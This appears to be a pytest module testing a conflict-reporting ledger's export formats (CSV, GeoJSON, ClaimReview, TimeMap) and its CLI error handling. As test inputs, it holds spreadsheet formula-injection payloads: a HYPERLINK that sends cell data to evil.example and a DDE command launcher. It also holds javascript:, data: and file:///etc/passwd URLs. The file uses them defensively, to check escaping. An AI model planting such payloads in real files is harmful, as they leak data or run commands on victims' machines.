"""The export package: its registry, the ledger-json contract, output escaping, GeoJSON and the CLI's
refusals, on a small hand-built ledger of fictional reporting. Each format has its own test module too
(test_export_acled.py, test_export_timemap.py, test_export_claimreview.py)."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

from claimledger import export
from format_checks import check_acled_csv, check_claimreviews, check_geojson, validate_timemap

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "\t=1+2", "-1+1", "\r=2+3"]


def test_export_small_ledger_spans_slice_their_documents(small_ledger):
    ledger = small_ledger()
    texts = {d["id"]: d["text"] for d in ledger["documents"]}
    for s in ledger["statements"]:
        c = s["content"]
        assert texts[s["document_id"]][c["start"]:c["end"]] == c["text"]
    b = ledger["assessments"][0]["basis"]
    assert texts[1][b["start"]:b["end"]] == b["text"]


def test_export_formats_registry_names_every_format(small_ledger):
    assert set(export.FORMATS) == {"json", "acled-csv", "geojson", "claimreview", "timemap"}
    for fmt in export.FORMATS.values():
        out = fmt.render(small_ledger(), org="Field Desk", base_url="https://ledger.example.org/report.html")
        if fmt.directory:
            assert set(out) == {"events.json", "associations.json", "sources.json"}
        else:
            assert isinstance(out, str) and out


def test_export_json_round_trips(small_ledger):
    ledger = small_ledger()
    assert json.loads(export.FORMATS["json"].render(ledger)) == ledger


@pytest.mark.parametrize("cell", PAYLOADS)
def test_export_csv_cell_neutralises_formulas(cell):
    out = export.csv_cell(cell)
    assert out == "'" + cell and not out.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_export_csv_cell_keeps_numbers_and_plain_text():
    assert export.csv_cell(-36.2304) == -36.2304 and export.csv_cell(0) == 0
    assert export.csv_cell("Kharkiv") == "Kharkiv" and export.csv_cell("") == ""


def test_export_acled_csv_escapes_hostile_text_from_articles(small_ledger):
    ledger = small_ledger()
    ledger["documents"][0]["outlet"] = PAYLOADS[0]
    ledger["allegations"][0]["perpetrator"] = PAYLOADS[1]
    ledger["documents"][0]["url"] = "javascript:alert(1)"
    rows = list(csv.DictReader(io.StringIO(export.FORMATS["acled-csv"].render(ledger))))
    i1 = next(r for r in rows if r["incident_id"] == "I1")
    assert i1["source"] == "'" + PAYLOADS[0] and i1["actor1"] == "'" + PAYLOADS[1]
    assert i1["source_urls"] == "" and float(i1["longitude"]) > 0
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), value


@pytest.mark.parametrize("url,kept", [
    ("https://news.example.org/a1", True), ("http://news.example.org/a1", True), ("javascript:alert(1)", False),
    ("JAVASCRIPT:alert(1)", False), ("data:text/html,<script>", False), ("file:///etc/passwd", False),
    ("//news.example.org", False), ("https://", False), ("https://x.example/a b", False), (None, False),
])
def test_export_safe_url_keeps_only_http(url, kept):
    assert (export.safe_url(url) == url) is kept and (export.safe_url(url) in ("", url))


def test_export_geojson_points_lon_lat_and_skips_unplaced(small_ledger):
    doc = json.loads(export.FORMATS["geojson"].render(small_ledger()))
    check_geojson(doc)
    feats = {f["id"]: f for f in doc["features"]}
    assert set(feats) == {"I1", "I2"} and doc["incidents_without_coordinates"] == ["I3"]
    assert feats["I1"]["geometry"]["coordinates"] == [36.2304, 49.9935]
    props = feats["I1"]["properties"]
    assert props["acts"] == ["shelling"] and props["allegations"] == ["D1.A1"]
    assert props["verifiers"] == [{"verifier": "Human Rights Watch", "status": "corroborated"}]


def test_export_geojson_weapons_sources_counts_and_analyst_flag(small_ledger):
    ledger = small_ledger()
    ledger["allegations"][0]["weapons"] = [{"name": "Grad rockets", "kb_id": "bm-21", "category": "MLRS"}]
    ledger["statements"][0]["speaker"]["side"] = "Ukraine"
    ledger["assessments"][0]["weapon"] = {"name": "122mm rockets", "kb_id": "bm-21"}
    ledger["assessments"].append({"id": "D1.V2", "document_id": 1, "allegation_id": "D1.A1", "verifier": "OHCHR",
                                  "status": "insufficient_evidence"})
    ledger["incidents"][0]["status_source"] = "analyst"
    ledger["documents"][0]["url"] = "javascript:alert(1)"
    feats = {f["id"]: f["properties"] for f in json.loads(export.FORMATS["geojson"].render(ledger))["features"]}
    i1 = feats["I1"]
    assert i1["weapons"] == [{"name": "Grad rockets", "kb_id": "bm-21", "category": "MLRS", "basis": "alleged"}]
    (src,) = i1["sources"]
    assert (src["speaker"], src["side"], src["outlet"], src["url"]) == ("Petro Vashchuk", "Ukraine", "Northern Wire",
                                                                        None)
    assert i1["status_counts"]["corroborated"] == 1 and i1["status_counts"]["insufficient_evidence"] == 1
    assert i1["status_counts"]["refuted"] == 0
    assert i1["analyst_decision"] is True and feats["I2"]["analyst_decision"] is False
    assert feats["I2"]["weapons"][0]["name"] == "drones"


def test_export_formats_tolerate_an_empty_ledger():
    empty = {"schema": export.SCHEMA, "documents": [], "statements": [], "allegations": [], "assessments": [],
             "incidents": [], "places": []}
    assert export.FORMATS["acled-csv"].render(empty).strip() == ",".join(export.ACLED_COLUMNS)
    assert json.loads(export.FORMATS["geojson"].render(empty))["features"] == []
    assert json.loads(export.FORMATS["claimreview"].render(empty)) == []
    files = export.FORMATS["timemap"].render(empty)
    assert json.loads(files["events.json"]) == [] and json.loads(files["sources.json"]) == {}


def test_export_ledger_json_attaches_incident_evidence(engine):
    from claimledger import db

    with engine.begin() as conn:
        conn.execute(db.incidents.insert().values(id="I1", data={"allegation_ids": [], "place": None},
                                                  status="alleged"))
        conn.execute(db.evidence.insert().values(sha256="cd" * 32, size=3, mime="image/png", original_name="a.png",
                                                 content=b"abc"))
        conn.execute(db.evidence_links.insert().values(sha256="cd" * 32, record_type="incident", record_id="I1"))
    ledger = export.ledger_json(engine)
    assert ledger["schema"] == export.SCHEMA
    (inc,) = ledger["incidents"]
    assert inc["evidence"] == [{"sha256": "cd" * 32, "original_name": "a.png", "mime": "image/png", "size": 3}]
    assert json.loads(export.FORMATS["json"].render(ledger))["incidents"][0]["id"] == "I1"


# --- the CLI ------------------------------------------------------------------------------------------------

def _cl(*args):
    return subprocess.run([sys.executable, "-m", "claimledger.cli", *args], capture_output=True, text=True)


@pytest.mark.parametrize("command", [["export", "--format", "geojson"], ["report", "--out", "{tmp}/r.html"]])
def test_export_and_report_refuse_a_mistyped_db(tmp_path, command):
    missing = tmp_path / "typo" / "ledgr.db"
    proc = _cl(*[c.format(tmp=tmp_path) for c in command], "--db", str(missing))
    assert proc.returncode == 2
    assert "no database at" in proc.stderr and str(missing) in proc.stderr
    assert not missing.exists() and not missing.parent.exists() and not (tmp_path / "r.html").exists()


def test_export_refuses_a_database_without_a_ledger(tmp_path):
    import sqlite3

    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    proc = _cl("export", "--db", str(other))
    assert proc.returncode == 2 and "holds no claimledger tables" in proc.stderr


def test_export_cli_writes_every_format_from_a_database(tmp_path, small_ledger):
    """A real database (one incident, one document), exported in each format and checked by its own rules."""
    from claimledger import db

    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    engine = db.connect(url)
    ledger = small_ledger()
    with engine.begin() as conn:
        d = ledger["documents"][0]
        conn.execute(db.documents.insert().values(
            id=1, content_hash="ab" * 32, sha256="ab" * 32, text=d["text"], title=d["title"], outlet=d["outlet"],
            url=d["url"], analysis_status="done"))
        conn.execute(db.incidents.insert().values(id="I1", data={"allegation_ids": [], "place": None,
                                                                 "date": "2024-03-05"},
                                                  status="disputed", status_source="analyst", rationale="checked"))
    engine.dispose()
    out = tmp_path / "out"
    for fmt, name in (("acled-csv", "e.csv"), ("geojson", "e.geojson"), ("claimreview", "r.jsonld")):
        proc = _cl("export", "--db", url, "--format", fmt, "--out", str(out / name), "--org", "Field Desk")
        assert proc.returncode == 0, proc.stderr
    proc = _cl("export", "--db", url, "--format", "timemap", "--out", str(out / "timemap"))
    assert proc.returncode == 0, proc.stderr
    rows = check_acled_csv((out / "e.csv").read_text(encoding="utf-8"))
    assert rows[0]["analyst_decision"] == "yes" and rows[0]["status"] == "disputed"
    reviews = json.loads((out / "r.jsonld").read_text(encoding="utf-8"))
    check_claimreviews(reviews)
    assert reviews[0]["author"] == {"@type": "Organization", "name": "Field Desk"}
    check_geojson(json.loads((out / "e.geojson").read_text(encoding="utf-8")))
    tm = validate_timemap({p.name: p.read_text(encoding="utf-8") for p in (out / "timemap").iterdir()})
    assert tm["discarded"] == [] and len(tm["events"]) == 1
    assert _cl("export", "--db", url, "--format", "timemap").returncode == 2  # a directory is required


def test_undated_allegations_without_publication_date_are_listed_per_document(small_ledger):
    from claimledger.cli import _undated_without_published

    ledger = small_ledger()
    ledger["allegations"][2]["date"] = None
    assert _undated_without_published(ledger) == []  # document 2 has a publication date
    ledger["documents"][1]["published"] = None
    assert _undated_without_published(ledger) == [(2, "Men taken from village", 1)]


def test_analyze_warns_when_no_publication_date_resolves_relative_dates(tmp_path):
    from typer.testing import CliRunner

    from claimledger.cli import app

    text = tmp_path / "east.txt"
    text.write_text("Shelling in the east\n\nThe regional governor said Russian forces shelled a school in Kharkiv "
                    "on Tuesday, killing two teachers.\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["analyze", str(text), "--out", str(tmp_path / "ledger.json")])
    assert result.exit_code == 0, result.output
    ledger = json.loads((tmp_path / "ledger.json").read_text(encoding="utf-8"))
    assert any(not a.get("date") for a in ledger["allegations"])
    assert "no publication date" in result.output and "--published" in result.output


@pytest.mark.postgres
def test_connect_existing_refuses_an_empty_postgresql_schema_and_leaves_it_empty(pg_schema_url):
    from sqlalchemy import create_engine, inspect

    from claimledger import db

    url = pg_schema_url()
    with pytest.raises(db.DatabaseMissing, match="holds no claimledger tables"):
        db.connect_existing(url)
    probe = create_engine(url)
    with probe.connect() as conn:
        assert inspect(conn).get_table_names() == []
    probe.dispose()
    db.connect(url).dispose()  # once migrated, it is a ledger
    db.connect_existing(url).dispose()


def test_export_claim_text_of_a_narrated_allegation_is_the_outlets_sentence():
    sentence = "Gunmen burned a clinic in the hill town on Sunday."
    ledger = {"documents": [{"id": 1, "text": sentence}], "statements": [],
              "allegations": [{"id": "D1.A1", "statement_ids": [], "act": "attack_on_civilians", "narrated": True,
                               "reported_by": "Hill Courier", "document_id": 1,
                               "span": {"start": 0, "end": len(sentence), "text": sentence}},
                              {"id": "D1.A2", "statement_ids": [], "act": "shelling", "perpetrator": "X"}]}
    index = export.LedgerIndex(ledger)
    assert index.claim_text(index.allegations["D1.A1"]) == sentence
    assert index.claim_text(index.allegations["D1.A2"]) == "shelling by X"
